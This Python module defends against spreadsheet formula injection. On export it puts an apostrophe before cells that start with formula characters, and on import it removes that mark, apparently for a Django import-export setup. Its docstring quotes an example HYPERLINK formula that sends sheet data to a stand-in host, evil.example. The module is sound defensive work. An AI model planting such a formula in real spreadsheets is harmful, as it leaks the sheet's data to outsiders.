"""Text in a spreadsheet cell that a spreadsheet would run is written as text, and read back.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
for a formula by Excel, LibreOffice and Google Sheets when the file is opened (CSV) or stored
as one (XLSX): an item named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would send the
sheet's data away when staff click it. So an exported cell that begins with one of those, or
with the quote followed by one of them, gets a leading ``'``: the spreadsheets' own mark for
"this is text". Reading a spreadsheet's cells (an import) takes exactly that mark off again, so
an export reads back unchanged; other text (``'x`` included) is read as it is.

django-import-export's ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` is not used: it drops one
leading ``=`` (``==...`` stays a formula, the text is lost) and leaves ``+ - @`` alone.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
_MARKED = (*FORMULA_STARTS, TEXT_MARK)


def neutralised(value: Any) -> Any:
    """``value`` as a cell may hold it: text a spreadsheet would run, or that ``restored``
    would change, with the text mark before it; anything else unchanged."""
    if isinstance(value, str) and (value.startswith(FORMULA_STARTS) or _marked(value)):
        return TEXT_MARK + value
    return value


def restored(text: str) -> str:
    """A cell's text as it was before ``neutralised``: the mark it added taken off."""
    return text[1:] if _marked(text) else text


def _marked(text: str) -> bool:
    return text.startswith(TEXT_MARK) and text[1:].startswith(_MARKED)
